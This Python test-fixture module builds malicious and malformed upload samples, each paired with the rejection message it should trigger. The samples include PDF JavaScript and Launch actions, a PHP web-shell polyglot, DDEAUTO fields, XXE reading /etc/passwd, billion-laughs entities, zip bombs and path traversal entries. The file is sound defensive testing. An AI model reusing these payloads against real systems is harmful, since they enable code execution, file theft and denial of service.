"""Files that must not come in, each with the name it comes under and words from the sentence that it earns."""

import io
import zipfile
import zlib

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Stream, StreamDecodeLevel, String

from . import paper, written

TYPE = "not of a type taken here"
HTML = b"<html><script>alert(1)</script></html>"
EXE = b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"

WRONG_IDENTITY = [
    ("program.pdf", EXE, TYPE),
    ("page.pdf", HTML, TYPE),
    ("drawing.pdf", SVG, TYPE),
    ("archive.pdf", paper.archive({"a.txt": "a"}), TYPE),
    ("archive.docx", paper.archive({"a.txt": "a"}), TYPE),
    ("moving.png", GIF, TYPE),
    ("one-byte.pdf", b"%", TYPE),
    ("bom.pdf", b"\xef\xbb\xbf" + HTML, TYPE),
    ("notes.pdf", b"Just words, and nothing else.", TYPE),
    ("table.csv", b"a,b\n1,2\n", TYPE),
    ("really-a-pdf.docx", paper.pdf(), "Its name ends in .docx, but it is a PDF"),
    ("really-a-png.jpg", paper.picture(), "Its name ends in .jpg, but it is a PNG"),
    ("really-word.pdf", paper.docx(), "Its name ends in .pdf, but it is a Word document"),
    ("policy.exe.pdf", paper.pdf(), "hides a second ending"),
    ("right-start.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 400, TYPE),
    ("right-start.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\1" * 400, "damaged"),
    ("right-start.pdf", b"%PDF-1.7\n" + b"nothing " * 90 + b"\n%%EOF", "damaged"),
]

TWO = "two kinds of file in one"
PACKED = paper.archive({"Main.class": b"\xca\xfe\xba\xbe"})
POLYGLOTS = [
    ("pdf-html.pdf", paper.pdf() + HTML + b"\n%%EOF", TWO),
    ("html-pdf.pdf", HTML + paper.pdf(), TYPE),
    ("pdf-jar.pdf", paper.pdf() + PACKED, TWO),
    ("jpeg-html.jpg", paper.picture("JPEG") + HTML, TWO),
    ("jpeg-comment.jpg", paper.picture("JPEG", comment=b"<script>alert(1)</script>"), TWO),
    ("png-php.png", paper.picture() + b"<?php system($_GET[0]); ?>", TWO),
    ("png-jar.png", paper.picture() + PACKED, TWO),
    ("jpeg-zip.jpg", paper.picture("JPEG") + PACKED, TWO),
]


def at(place):
    def put(document, entry):
        {
            "page": document.pages[0].obj,
            "root": document.Root,
        }[place].AA = Dictionary(O=entry, WC=entry)

    return put


def names(document, **trees):
    document.Root.Names = Dictionary({f"/{name}": tree for name, tree in trees.items()})


SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
ACTIVE = [
    ("script.pdf", paper.pdf_that_does(**SCRIPT), "script"),
    ("script-stream.pdf", paper.pdf(change=lambda d: setattr(d.Root, "JS", Stream(d, b"app.alert(1)"))), "script"),
    (
        "script-on-page.pdf",
        paper.pdf(change=lambda d: at("page")(d, Dictionary(**SCRIPT))),
        "script",
    ),
    ("script-on-close.pdf", paper.pdf(change=lambda d: at("root")(d, Dictionary(**SCRIPT))), "script"),
    (
        "script-by-name.pdf",
        paper.pdf(change=lambda d: names(d, JavaScript=Dictionary(Names=Array([String("a"), Dictionary(**SCRIPT)])))),
        "script",
    ),
    ("launch.pdf", paper.pdf_that_does(S=Name.Launch, F=String("cmd.exe")), "starts a program"),
    (
        "elsewhere.pdf",
        paper.pdf_that_does(S=Name.GoToR, F=String("\\\\host\\x.pdf"), D=Array([0])),
        "opens another file",
    ),
    ("inside.pdf", paper.pdf_that_does(S=Name.GoToE, D=Array([0])), "opens another file"),
    ("sends.pdf", paper.pdf_that_does(S=Name.SubmitForm, F=String("http://example.test/")), "sends or fetches"),
    ("fetches.pdf", paper.pdf_that_does(S=Name.ImportData, F=String("x.fdf")), "sends or fetches"),
    ("file-link.pdf", paper.pdf_that_does(S=Name.URI, URI=String("file:///etc/passwd")), "links to a file"),
    ("network-link.pdf", paper.pdf_that_does(S=Name.URI, URI=String("\\\\host\\share")), "links to a file"),
    ("chained.pdf", paper.pdf_that_does(S=Name.GoTo, D=Array([0]), Next=Dictionary(**SCRIPT)), "script"),
    ("attached.pdf", paper.pdf(change=lambda d: d.attachments.__setitem__("a.txt", b"a")), "carries other files"),
    ("portfolio.pdf", paper.pdf(change=lambda d: setattr(d.Root, "Collection", Dictionary())), "carries other files"),
    ("pinned.pdf", paper.pdf_with_annotation(Subtype=Name.FileAttachment), "carries other files"),
    ("film.pdf", paper.pdf_with_annotation(Subtype=Name.RichMedia), "sound, film"),
    ("sound.pdf", paper.pdf_that_does(S=Name.Sound), "sound, film"),
    ("form.pdf", paper.pdf(change=lambda d: setattr(d.Root, "AcroForm", Dictionary(XFA=String("<xdp/>")))), "XFA"),
    (
        "outside-stream.pdf",
        paper.pdf(change=lambda d: setattr(d.Root, "Extra", Stream(d, b"", F=String("http://example.test/a")))),
        "loads something",
    ),
    (
        "hidden-name.pdf",
        paper.pdf_that_does(**SCRIPT).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS"),
        "script",
    ),
    (
        "in-object-stream.pdf",
        paper.pdf(
            change=lambda d: setattr(d.Root, "OpenAction", d.make_indirect(Dictionary(**SCRIPT))),
            object_stream_mode=ObjectStreamMode.generate,
        ),
        "script",
    ),
]

WHOLE = paper.pdf(pages=3)


def looping(document):
    document.Root.Pages.Kids = Array([document.Root.Pages])


def nested(document, depth=600):
    inner = Array([])
    for _ in range(depth):
        inner = Array([inner])
    document.Root.Deep = inner


BROKEN = [
    *[(f"cut-at-{percent}.pdf", WHOLE[: len(WHOLE) * percent // 100], "damaged") for percent in (5, 25, 50, 75, 95)],
    ("no-pages.pdf", paper.pdf(pages=0), "no pages"),
    ("too-many.pdf", paper.pdf(pages=501), "at most 500"),
    ("locked.pdf", paper.pdf(encryption=Encryption(user="a", owner="b")), "password"),
    ("protected.pdf", paper.pdf(encryption=Encryption(user="", owner="b")), "protected"),
    ("looping.pdf", paper.pdf(change=looping), "damaged"),
    ("deep.pdf", paper.pdf(change=nested), "damaged"),
    ("no-root.pdf", WHOLE.replace(b"/Root", b"/Toor"), "damaged"),
]


def flate(document, content, filters=1):
    packed = content
    for _ in range(filters):
        packed = zlib.compress(packed, 9)
    chain = Array([Name.FlateDecode] * filters)
    document.pages[0].Contents = Stream(document, packed, Filter=chain)


def raw(change) -> bytes:
    """Saved as packed here, without the library unpacking it first."""
    return paper.pdf(change=change, compress_streams=False, stream_decode_level=StreamDecodeLevel.none)


ZEROS = b"\0" * (80 * 1024 * 1024)


def many_entries() -> bytes:
    return paper.docx_with({f"word/media/{number}.txt": b"" for number in range(3_001)})


def lying_size() -> bytes:
    """The header says ten bytes, the content is large."""
    content = bytearray(paper.docx_with({"word/media/a.bin2": b"\0" * 300 * 1024 * 1024}))
    where = content.rfind(b"PK\1\2", 0, content.rfind(b"word/media/a.bin2"))
    content[where + 24 : where + 28] = (10).to_bytes(4, "little")
    return bytes(content)


def overlapping() -> bytes:
    """Several entries over the same bytes."""
    out = io.BytesIO(paper.docx())
    with zipfile.ZipFile(out, "a") as packed:
        first = packed.infolist()[-1]
        for number in range(5):
            again = zipfile.ZipInfo(f"word/copy{number}.xml")
            again.header_offset, again.compress_size = first.header_offset, first.compress_size
            again.file_size, again.CRC, again.compress_type = first.file_size, first.CRC, first.compress_type
            packed.filelist.append(again)
            packed.NameToInfo[again.filename] = again
        packed._didModify = True
    return out.getvalue()


BOMBS = [
    ("bomb.pdf", raw(lambda d: flate(d, ZEROS)), "unpacks to"),
    ("bomb-in-bomb.pdf", raw(lambda d: flate(d, ZEROS, filters=2)), "unpacks to"),
    ("many-layers.pdf", raw(lambda d: flate(d, b"a", filters=5)), "unpacks to"),
    ("huge.png", paper.png_that_claims(50_000, 50_000), "too large"),
    ("wide.png", paper.png_that_claims(2**31 - 1, 1), ""),
    ("bomb.docx", paper.docx_with({"word/media/a.txt": b"\0" * 210 * 1024 * 1024}), "unpacks to"),
    ("entries.docx", many_entries(), "unpacks to"),
    ("overlap.docx", overlapping(), ""),
]

FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
ENTITIES = '<!DOCTYPE a [<!ENTITY b "{}">{}]><a>&b;</a>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
DOCX = [
    ("macro.docx", paper.docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    ("macro-type.docx", paper.docx(types=paper.TYPES.replace("document.main", "document.macroEnabled.main")), "macros"),
    ("template.docx", paper.docx_that_loads("attachedTemplate", "http://example.test/a.dotm"), "loads something"),
    ("picture.docx", paper.docx_that_loads("image", "http://example.test/a.png"), "loads something"),
    ("object.docx", paper.docx_that_loads("oleObject", "file:///c:/a"), "loads something"),
    ("file-link.docx", paper.docx_that_loads("hyperlink", "file:///c:/a"), "loads something"),
    ("dde.docx", paper.docx(FIELD.format('DDEAUTO c:\\\\cmd.exe "/k calc"')), "loads something"),
    ("include.docx", paper.docx(FIELD.format('INCLUDETEXT "\\\\\\\\host\\\\a"')), "loads something"),
    ("simple-field.docx", paper.docx('<w:fldSimple w:instr="DDE a b"/>'), "loads something"),
    ("embedded.docx", paper.docx_with({"word/embeddings/a.xlsx": b"PK"}), "another file"),
    ("control.docx", paper.docx_with({"word/activeX/activeX1.xml": "<a/>"}), "another file"),
    ("program.docx", paper.docx_with({"word/media/a.exe": EXE}), "another file"),
    ("outside.docx", paper.docx_with({"word/a.xml": XXE}), "declarations"),
    ("laughs.docx", paper.docx_with({"word/a.xml": ENTITIES.format("ha", LAUGHS)}), "declarations"),
    ("climbs.docx", paper.docx_with({"../../etc/a": "a"}), "damaged"),
    ("absolute.docx", paper.docx_with({"/etc/a": "a"}), "damaged"),
    ("no-document.docx", paper.docx(leave_out=["word/document.xml"], word__a="a"), "damaged"),
    ("no-relations.docx", paper.docx(leave_out=["_rels/.rels"]), "damaged"),
    ("not-xml.docx", paper.docx_with({"word/a.xml": "<a>"}), "damaged"),
    ("cut.docx", paper.docx()[:-30], ""),
]

BAD = [
    (group, *row)
    for group, rows in {
        "wrong identity": WRONG_IDENTITY,
        "polyglot": POLYGLOTS,
        "active": ACTIVE,
        "broken": BROKEN,
        "bomb": BOMBS,
        "docx": DOCX,
    }.items()
    for row in rows
]

GOOD = [
    ("policy.pdf", paper.pdf()),
    ("long.PDF", paper.pdf(pages=499)),
    ("linear.pdf", paper.pdf(pages=3, linearize=True)),
    ("link.pdf", paper.pdf_that_does(S=Name.URI, URI=String("https://example.test/"))),
    ("goes-to-page.pdf", paper.pdf_that_does(S=Name.GoTo, D=Array([0, Name.Fit]))),
    ("spaces before.pdf", b"\r\n" + paper.pdf()),
    ("policy.docx", paper.docx()),
    ("link.docx", paper.docx_that_loads("hyperlink", "https://example.test/")),
    ("page-field.docx", paper.docx(FIELD.format(" PAGE \\* MERGEFORMAT "))),
    ("scan.png", paper.picture()),
    ("scan.jpeg", paper.picture("JPEG")),
    ("no ending", paper.pdf()),
    ("größe, 規則.pdf", paper.pdf()),
    *written.ALL,
]
